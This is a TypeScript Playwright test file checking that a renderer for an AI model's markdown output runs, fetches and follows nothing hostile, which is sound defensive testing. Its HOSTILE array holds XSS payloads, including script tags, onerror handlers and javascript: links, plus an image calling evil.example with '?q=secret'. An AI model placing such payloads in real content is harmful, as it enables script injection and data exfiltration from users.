import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import type { Browser } from 'playwright-core';
import { launchBrowser } from '../../../scripts/host/browser.mjs';
import type { MarkdownPage } from './support/markdownPage.tsx';
import { openTestPage, type TestPage } from './support/openTestPage.ts';

const HOSTILE = [
  '<script>alert(1)</script><img src=x onerror=alert(2)><style>body{display:none}</style>',
  '![x](https://evil.example/a.png?q=secret) ![y](data:image/png;base64,AA==)',
  '[a](javascript:alert(3)) [b](command:workbench.action.quit) [c](data:text/html,x) <javascript:alert(4)>',
  '<a href="https://evil.example" target=_top>x</a><form action=https://evil.example><input autofocus></form>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg><iframe src="https://evil.example"></iframe>',
  '```html\n<script>alert(5)</script>\n```',
  '| a |\n|:-:|\n| <b style="position:fixed">x</b> |',
];

describe('Markdown of a model on a page', () => {
  let browser: Browser;
  let opened: TestPage;
  const show = (text: string, props: Parameters<MarkdownPage['show']>[1] = {}) =>
    opened.page.evaluate(
      ([text, props]) =>
        (globalThis as unknown as { markdownPage: MarkdownPage }).markdownPage.show(text, props),
      [text, props] as const,
    );
  const done = () =>
    opened.page.evaluate(() => [
      ...(globalThis as unknown as { markdownPage: MarkdownPage }).markdownPage.done,
    ]);

  before(async () => {
    browser = await launchBrowser();
    opened = await openTestPage(browser, 'markdownPage.tsx');
  });
  after(() => browser?.close());
  afterEach(() => {
    assert.deepEqual(opened.complaints, [], 'The policy was violated, or something failed.');
    assert.deepEqual(opened.asked, [], 'Something was fetched.');
  });

  it('runs, fetches and follows nothing of hostile answers', async () => {
    await show(HOSTILE.join('\n\n'));
    const { page } = opened;
    assert.equal(await page.locator('img, script:not([nonce]), iframe, form, input, svg, style').count(), 0);
    assert.equal(await page.locator('.markdown a[href]').count(), 0);
    assert.equal(await page.locator('.markdown [style], .markdown [onerror]').count(), 0);
    await page.getByText('alert(1)').waitFor();
  });

  it('tells of a link that is followed by mouse or keyboard, and goes nowhere itself', async () => {
    await show('See [the page](https://good.example/a?b=1).');
    const link = opened.page.getByRole('link', { name: 'the page' });
    await link.click();
    await link.press('Enter');
    assert.deepEqual(await done(), Array(2).fill('open https://good.example/a?b=1'));
    assert.equal(await link.getAttribute('title'), 'https://good.example/a?b=1');
  });

  it('copies code', async () => {
    await show('```js\nlet a = "<b>";\n```');
    await opened.page.getByRole('button', { name: 'Copy' }).click();
    assert.equal((await done()).at(-1), 'copy let a = "<b>";\n');
  });

  it('keeps finished blocks while more arrives, and draws the end', async () => {
    await show('first\n\nsecond\n\nthi', { isStreaming: true });
    const first = await opened.page.locator('.block').first().elementHandle();
    await show('first\n\nsecond\n\nthird **bold**\n\nfourth', { isStreaming: true });
    await opened.page.locator('.block strong').waitFor();
    assert.ok(await first!.evaluate(element => element.isConnected));
    await show('first\n\nsecond\n\nthird **bold**\n\nfourth and last');
    await opened.page.getByText('fourth and last').waitFor();
  });

  it('draws at most once a frame', async () => {
    const draws = await opened.page.evaluate(async () => {
      const { show } = (globalThis as unknown as { markdownPage: MarkdownPage }).markdownPage;
      let seen = 0;
      const observer = new MutationObserver(() => seen++);
      show('a', { isStreaming: true });
      observer.observe(document.body, { childList: true, subtree: true, characterData: true });
      for (let i = 0; i < 500; i++) show(`a${' word'.repeat(i)}`, { isStreaming: true });
      await new Promise(requestAnimationFrame);
      await new Promise(requestAnimationFrame);
      return seen;
    });
    assert.ok(draws <= 2, `${draws} draws`);
  });

  it('shows a line of a megabyte plain, the beginning first', async () => {
    await show(`${'x'.repeat(1_000_000)}\n<b>end</b>`);
    const { page } = opened;
    assert.equal((await page.locator('.plain .text').innerText()).length, 100_000);
    await page.getByRole('button', { name: 'more characters' }).click();
    await page.waitForFunction(() => document.querySelector('.plain .text')!.textContent!.length === 200_000);
    await show('**plain** <b>', { isPlain: true });
    await page.getByText('**plain** <b>', { exact: true }).waitFor();
  });

  it('has no faults of accessibility', async () => {
    await show(
      '# Title\n\n[a link](https://good.example)\n\n- one\n\n> two\n\n```py\nx = 1\n```\n\n|a|b|\n|-|-|\n|1|2|',
    );
    await opened.page.evaluate(readFileSync(createRequire(import.meta.url).resolve('axe-core'), 'utf8'));
    const faults = await opened.page.evaluate(async () => {
      const { axe } = globalThis as unknown as { axe: { run(): Promise<{ violations: { id: string }[] }> } };
      return (await axe.run()).violations.map(({ id }) => id);
    });
    assert.deepEqual(faults, []);
  });
});
